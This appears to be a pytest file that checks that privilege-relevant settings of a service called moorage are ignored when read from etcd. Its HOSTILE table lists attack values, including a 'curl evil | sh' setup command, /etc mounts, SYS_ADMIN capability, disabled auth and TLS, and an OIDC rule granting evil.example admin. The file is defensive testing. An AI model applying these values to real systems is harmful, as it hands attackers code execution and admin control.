"""Settings in etcd: every setting is classified, and those that could raise privileges are read
only from the host."""

from __future__ import annotations

import json
import types
import typing
from collections.abc import Iterator
from pathlib import Path
from typing import Any, Literal, get_args, get_origin

import pytest
from pydantic_core import to_jsonable_python
from structlog.testing import capture_logs

from moorage.common.aio.clock import ManualClock
from moorage.common.config import loader
from moorage.common.config.loader import SECRETS, check_shared, load
from moorage.common.config.settings import Settings
from moorage.common.config.sharing import LOCAL, SHARED, why_local
from moorage.common.etcd.access import EtcdAccess
from moorage.common.model.errors import ConfigError
from moorage.common.model.slots import parse_size
from moorage.server.shared_settings import SettingsWatch

DEFAULTS: dict[str, Any] = {
    f"{section}.{name}": value
    for section, values in to_jsonable_python(Settings().model_dump()).items()
    for name, value in values.items()
}
TYPES = {
    f"{section}.{name}": field.annotation
    for section in Settings.model_fields
    for name, field in type(getattr(Settings(), section)).model_fields.items()
}
# Settings that the security review was able to write into etcd, and one setting for each other
# reason.
HOSTILE: dict[str, Any] = {
    "agent.vllm_command": "/tmp/mine",
    "agent.slurm_setup": "curl evil | sh",
    "agent.process_isolation": "all",
    "agent.process_env": ["HF_TOKEN"],
    "agent.docker_mounts": ["/etc"],
    "agent.docker_capabilities": ["SYS_ADMIN"],
    "agent.model_cache": "/etc",
    "agent.manager": "192.0.2.1:8701",
    "proxy.auth": "none",
    "proxy.credentials_max_age_s": 0,
    "proxy.metering": False,
    "common.link_tls": "off",
    "manager.oidc_rules": ["domain:evil.example = admin"],
    "manager.audit_kept_days": 1,
    "telemetry.endpoint": "http://192.0.2.1:4318",
}


@pytest.fixture(autouse=True)
def no_system_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(loader, "SYSTEM_FILE", tmp_path / "moorage.toml")


def test_every_setting_is_either_shared_or_local() -> None:
    """A new setting must be put into one of the tables of ``common/config/sharing.py``."""
    assert DEFAULTS.keys() == SHARED | LOCAL.keys()
    assert SHARED & LOCAL.keys() == set()


def alternatives(kind: Any) -> Iterator[Any]:
    if get_origin(kind) in (types.UnionType, typing.Union):
        for part in get_args(kind):
            yield from alternatives(part)
    elif get_origin(kind) is typing.Annotated:
        yield from alternatives(get_args(kind)[0])
    else:
        yield kind


@pytest.mark.parametrize("name", sorted(SHARED))
def test_a_shared_setting_is_a_number_a_size_or_a_choice(name: str) -> None:
    """A setting that is text, a path, a list or a table could be a command, a file, an address or a
    rule."""
    for kind in alternatives(TYPES[name]):
        is_size = kind is str and parse_size(DEFAULTS[name]) >= 0
        assert kind in (bool, int, float, type(None)) or get_origin(kind) is Literal or is_size


def test_secrets_are_local() -> None:
    assert {LOCAL[name] for name in SECRETS} == {LOCAL["manager.dsn"]}


@pytest.mark.parametrize("name", sorted(LOCAL))
def test_a_local_setting_is_ignored_in_etcd(name: str) -> None:
    value = HOSTILE.get(name, DEFAULTS[name])
    loaded = load(None, {}, {}, {name: json.dumps(value)})
    assert loaded.origins[name] == "default"
    assert to_jsonable_python(loaded.settings.model_dump()) == to_jsonable_python(
        Settings().model_dump()
    )
    (why,) = loaded.ignored
    assert why.startswith(f"{name} cannot be set in etcd: it {LOCAL[name]}")
    assert "set it in the configuration file" in why
    with pytest.raises(ConfigError, match="cannot be set in etcd"):
        check_shared({name: value})


def test_the_examples_are_of_settings_that_differ() -> None:
    assert {name for name, value in HOSTILE.items() if value == DEFAULTS[name]} == set()


@pytest.mark.parametrize("name", sorted(SHARED))
def test_a_shared_setting_is_taken_from_etcd(name: str) -> None:
    loaded = load(None, {}, {}, {name: json.dumps(DEFAULTS[name])})
    assert (loaded.origins[name], loaded.ignored) == ("etcd", ())
    assert check_shared({name: DEFAULTS[name]}) == {name: DEFAULTS[name]}


def test_what_is_not_classified_is_local() -> None:
    assert why_local("agent.of_tomorrow")


def test_a_host_may_set_what_etcd_may_not() -> None:
    loaded = load(
        None,
        {"MOORAGE_AGENT__VLLM_COMMAND": "/opt/vllm"},
        {},
        {"agent.vllm_command": '"/tmp/mine"'},
    )
    assert loaded.settings.agent.vllm_command == "/opt/vllm"
    assert len(loaded.ignored) == 1


def test_a_running_daemon_says_what_no_daemon_takes(tmp_path: Path) -> None:
    watch = SettingsWatch(EtcdAccess(("http://127.0.0.1:2379",)), tmp_path, ManualClock())
    with capture_logs() as logged:
        watch.take({"proxy.max_hold_s": "60", "agent.vllm_command": '"/tmp/mine"'})

    changed, ignored = logged
    assert (changed["settings"], ignored["settings"]) == (
        ["proxy.max_hold_s"],
        ["agent.vllm_command"],
    )
    assert "daemons ignore them" in ignored["event"]
    with capture_logs() as logged:
        watch.take({"proxy.max_hold_s": "60"})

    assert logged == []
